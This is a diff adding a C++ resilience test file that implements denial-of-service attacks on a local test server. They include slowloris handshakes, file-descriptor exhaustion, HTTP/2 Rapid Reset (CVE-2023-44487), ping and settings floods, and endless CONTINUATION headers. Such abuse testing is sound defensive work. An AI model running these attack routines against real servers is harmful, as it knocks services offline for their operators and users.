@@ -1,0 +1,186 @@
+#include "tests/abuse/attacks.h"
+
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <filesystem>
+#include <string>
+
+#include "absl/strings/str_cat.h"
+#include "absl/time/clock.h"
+#include "pinion/drill/http2.h"
+#include "pinion/drill/stream.h"
+#include "tests/e2e/raw_tls_client.h"
+
+namespace pinion::abuse {
+namespace {
+
+namespace http2 = drill::http2;
+using testing::RawTlsClient;
+using testing::RawTlsConnection;
+using testing::TlsVersion;
+
+// A TLS record that says that 512 bytes follow, and the first of them, a ClientHello's.
+constexpr absl::string_view kBegunHandshake("\x16\x03\x01\x02\x00\x01", 6);
+
+// TCP connections that stay, until the end.
+class Connections {
+ public:
+  ~Connections() {
+    for (const int socket : sockets_) close(socket);
+  }
+  void Add(int port) {
+    const int socket = drill::Dial("127.0.0.1", port, absl::Now() + absl::Seconds(10));
+    if (socket >= 0) sockets_.push_back(socket);
+  }
+  void SendAll(absl::string_view bytes) const {
+    for (const int socket : sockets_) send(socket, bytes.data(), bytes.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
+  }
+
+ private:
+  std::vector<int> sockets_;
+};
+
+// More at once than the server makes handshakes with.
+constexpr int kMany = 300;
+
+class HalfOpen final : public Attack {
+  void Go(const Victim& victim) override {
+    for (int i = 0; i < kMany; ++i) connections_.Add(victim.port);
+  }
+  Connections connections_;
+};
+
+// Slow loris: a byte now and then.
+class SlowHandshakes final : public Attack {
+  void Go(const Victim& victim) override {
+    Connections connections;
+    for (int i = 0; i < kMany; ++i) connections.Add(victim.port);
+    connections.SendAll(kBegunHandshake);
+    for (int i = 0; i < 20; ++i) {
+      connections.SendAll(absl::string_view("\0", 1));
+      absl::SleepFor(absl::Milliseconds(50));  // the pace of the attack
+    }
+  }
+};
+
+// The server has 64 descriptors more than it holds, and connections come until there is none.
+class Descriptors final : public Attack {
+ public:
+  ~Descriptors() override {
+    if (pid_ > 0) prlimit(pid_, RLIMIT_NOFILE, &before_, nullptr);
+  }
+
+ private:
+  void Go(const Victim& victim) override {
+    if (pid_ == 0) {
+      pid_ = victim.pid;
+      prlimit(pid_, RLIMIT_NOFILE, nullptr, &before_);
+      const std::filesystem::directory_iterator open(absl::StrCat("/proc/", pid_, "/fd"));
+      const auto held = static_cast<rlim_t>(std::distance(begin(open), end(open)));
+      const rlimit low = {held + 64, before_.rlim_max};
+      prlimit(pid_, RLIMIT_NOFILE, &low, nullptr);
+    }
+    Connections connections;
+    for (int i = 0; i < kMany; ++i) connections.Add(victim.port);
+  }
+  pid_t pid_ = 0;
+  rlimit before_ = {};
+};
+
+// A connection that was let in, and what is sent on it, as fast as it goes; nothing is read.
+class Sender : public Attack {
+ public:
+  void Go(const Victim& victim) override {
+    RawTlsClient client(TlsVersion::k13, victim.attacker);
+    const std::unique_ptr<RawTlsConnection> connection = client.Open(victim.port);
+    if (connection == nullptr) return;
+    std::string bytes = absl::StrCat(http2::kPreface, http2::Encode({http2::kSettings, 0, 0, ""}));
+    for (int i = 0; i < kFrames; ++i) {
+      bytes += Next(i);
+      if (bytes.size() < kChunk && i + 1 < kFrames) continue;
+      if (!connection->Send(bytes)) return;  // the server has had enough
+      bytes.clear();
+    }
+  }
+
+ protected:
+  virtual std::string Next(int i) = 0;
+
+ private:
+  static constexpr int kFrames = 5000;
+  static constexpr size_t kChunk = 16384;
+};
+
+// CVE-2023-44487.
+class RapidReset final : public Sender {
+  std::string Next(int i) override {
+    http2::FrameReader reader;
+    reader.Add(http2::Request("/pinion.v1.Echo/UnaryEcho", "server.test"));
+    http2::Frame headers = *reader.Next();
+    headers.stream = 2 * static_cast<uint32_t>(i) + 1;
+    return http2::Encode(headers) + http2::Encode({http2::kReset, 0, headers.stream, std::string("\0\0\0\x08", 4)});
+  }
+};
+
+// CVE-2019-9512.
+class Pings final : public Sender {
+  std::string Next(int /*i*/) override { return http2::Encode({http2::kPing, 0, 0, "12345678"}); }
+};
+
+// CVE-2019-9515.
+class Settings final : public Sender {
+  std::string Next(int /*i*/) override { return http2::Encode({http2::kSettings, 0, 0, ""}); }
+};
+
+// Headers that never end (CVE-2024-27316 and its like): 80 MB of them, on one stream.
+class EndlessHeaders final : public Sender {
+  std::string Next(int i) override {
+    constexpr uint8_t kContinuation = 9;
+    http2::FrameReader reader;
+    reader.Add(http2::Request("/pinion.v1.Echo/UnaryEcho", "server.test"));
+    http2::Frame headers = *reader.Next();
+    headers.flags = 0;
+    if (i == 0) return http2::Encode(headers);
+    // A literal that is not to be remembered: x: and a value of 16,000 bytes (RFC 7541 §5.1).
+    const std::string field = absl::StrCat(absl::string_view("\0\x01x\x7f\x81\x7c", 6), std::string(16000, 'x'));
+    return http2::Encode({kContinuation, 0, 1, field});
+  }
+};
+
+// Connections that were let in, and then do nothing.
+class ManyConnections final : public Attack {
+  void Go(const Victim& victim) override {
+    constexpr int kConnections = 100;
+    RawTlsClient client(TlsVersion::k13, victim.attacker);
+    for (int i = 0; i < kConnections; ++i) {
+      auto connection = client.Open(victim.port);
+      if (connection == nullptr) continue;
+      connection->Send(absl::StrCat(http2::kPreface, http2::Encode({http2::kSettings, 0, 0, ""})));
+      connections_.push_back(std::move(connection));
+    }
+  }
+  std::vector<std::unique_ptr<RawTlsConnection>> connections_;
+};
+
+template <typename T>
+std::unique_ptr<Attack> Make() {
+  return std::make_unique<T>();
+}
+
+}  // namespace
+
+std::vector<AttackKind> Attacks() {
+  return {{"connections that say nothing", Make<HalfOpen>, 4},
+          {"slow handshakes", Make<SlowHandshakes>, 5},
+          {"descriptors used up", Make<Descriptors>, 5},
+          {"streams opened and reset at once", Make<RapidReset>, 20},
+          {"pings", Make<Pings>, 20},
+          {"settings", Make<Settings>, 20},
+          // gRPC 1.51 keeps them all from a client that does not acknowledge its limit.
+          {"headers without an end, 80 MB", Make<EndlessHeaders>, 5, /*held_kb=*/80 * 1024},
+          {"100 idle connections a wave, one address", Make<ManyConnections>, 10}};
+}
+
+}  // namespace pinion::abuse
